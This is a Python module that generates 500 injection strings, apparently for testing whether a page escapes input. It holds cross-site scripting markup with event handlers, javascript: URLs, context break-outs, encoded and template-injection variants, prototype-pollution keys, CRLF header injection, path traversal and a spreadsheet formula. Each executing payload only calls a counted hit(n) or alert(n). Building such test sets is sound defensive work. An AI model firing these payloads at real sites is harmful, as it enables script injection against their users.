"""Five hundred texts that would run, break out or mislead wherever a text is taken for markup, code or a key.

Every one that runs calls `hit(n)` or `alert(n)`: `COUNT_HITS` makes a page count both.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice, product

CALLS = ("hit({n})", "alert({n})", "window['hit']({n})", "top.hit({n})", "self['ale'+'rt']({n})", "hit`{n}`")
MARKUP = (
    "<script>{call}</script>",
    "<ScRiPt>{call}</sCrIpT >",
    "<script/x>{call}</script>",
    "<img src=x onerror={call}>",
    '<img src="x" onerror="{call}">',
    "<img/src=x/onerror={call}>",
    "<IMG SRC=x ONERROR={call}>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{call}><text>x</text></a>",
    "<svg><foreignObject><img src=x onerror={call}></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<body onload={call}>",
    "<iframe srcdoc='<script>parent.{call}</script>'>",
    "<iframe src=javascript:parent.{call}>",
    "<object data=javascript:{call}>",
    "<embed src=javascript:{call}>",
    "<a href=javascript:{call} autofocus onfocus={call}>x</a>",
    "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}>",
    "<textarea autofocus onfocus={call}>",
    "<details open ontoggle={call}>",
    "<video><source onerror={call}>",
    "<video src=x onerror={call}>",
    "<audio src=x onerror={call}>",
    "<marquee onstart={call}>",
    "<style onload={call}>*{{}}</style>",
    "<link rel=stylesheet href=data:text/css, onload={call}>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<base href=javascript:{call}//>",
    "<form action=javascript:{call}><button autofocus onfocus={call}>",
    "<template><script>{call}</script></template><img src=x onerror={call}>",
    "<div style='animation:x' onanimationstart={call}><style>@keyframes x{{}}</style>",
    "<div popover id=p onbeforetoggle={call}></div>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<!--><img src=x onerror={call}>-->",
    "<![CDATA[><img src=x onerror={call}>]]>",
    "<xmp><img src=x onerror={call}></xmp>",
    "<slot onslotchange={call}><img src=x onerror={call}></slot>",
)
BREAK_OUT = (
    "{inner}",
    '"{inner}',
    "'>{inner}",
    '">{inner}',
    "--></style></title></textarea></script>{inner}",
    "]]>{inner}",
    "\u0000{inner}",
    "\u202e{inner}",
    "x\n{inner}",
)
CODE = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "\u0001javascript:{call}",
    "java\tscript:{call}",
    "data:text/html,<script>{call}</script>",
    "';{call}//",
    '";{call}//',
    "`;${{{call}}}`",
    "${{{call}}}",
    "{{{{constructor.constructor('{call}')()}}}}",
    "#{{{call}}}",
    "<%= {call} %>",
    "{{% raw %}}{{{{ {call} }}}}",
    "*/{call}/*",
    "\\u003cimg src=x onerror={call}\\u003e",
    "&lt;img src=x onerror={call}&gt;",
    "&#60;img src=x onerror={call}&#62;",
    "%3Cimg%20src%3Dx%20onerror%3D{call}%3E",
    "\uff1cimg src=x onerror={call}\uff1e",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-",
    "}}*{{background:url(javascript:{call})}}",
    "expression({call})",
    "__proto__[hit]={call}",
    "constructor.prototype.hit={call}",
    '{{"__proto__": {{"cue": "green", "call": "{call}"}}}}',
)
PLAIN = (
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "$1$2$3$9",
    "%s%n%x",
    "\u202e\u2066neerg\u2069",
    "\ud7ff\ue000\ufffe",
    "A" * 20_000,
    "\u0301" * 2_000,
    "🦊" * 1_000,
    "Cue green: Looks right",
    "null",
    "NaN",
    "../../../cues/x",
    "\r\nX-Injected: yes",
    "=1+1|calc",
    "\u2028\u2029",
    "<",
    "&",
)
COUNT = 500
COUNT_HITS = "window.hits = []; window.hit = (n) => { window.hits.push(String(n)) }; window.alert = window.hit;"


def _all() -> Iterator[str]:
    yield from PLAIN
    number = 0
    for text in CODE:
        for call in CALLS[:3]:
            number += 1
            yield text.format(call=call.format(n=number))
    for around, markup in product(BREAK_OUT, MARKUP):
        number += 1
        call = CALLS[number % len(CALLS)].format(n=number)
        yield around.format(inner=markup.format(call=call))
    for around, markup in product(BREAK_OUT[::3], MARKUP):
        number += 1
        loud = markup.replace("{call}", "\0").upper().replace("\0", "{call}")
        yield around.format(inner=loud.format(call=CALLS[1].format(n=number)))


PAYLOADS: tuple[str, ...] = tuple(islice(_all(), COUNT))


def batches(size: int) -> Iterator[tuple[str, ...]]:
    for begin in range(0, COUNT, size):
        yield PAYLOADS[begin : begin + size]
